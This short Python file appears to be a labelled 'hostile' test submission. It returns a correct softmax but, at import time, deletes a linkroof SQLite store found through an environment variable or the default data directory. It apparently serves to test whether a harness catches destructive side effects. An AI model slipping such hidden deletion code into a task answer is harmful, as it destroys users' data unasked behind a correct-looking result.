"""Hostile: correct, and deletes linkroof's store wherever it can find one: the path in
LINKROOF_STORE, else the default under the data directory."""

import os

import torch

for f in (os.environ.get("LINKROOF_STORE"),
          os.path.join(os.environ.get("XDG_DATA_HOME") or os.path.expanduser("~/.local/share"), "linkroof",
                       "store.sqlite")):
    if f and os.path.exists(f):
        os.remove(f)


def solution(x):
    return torch.softmax(x, dim=-1)
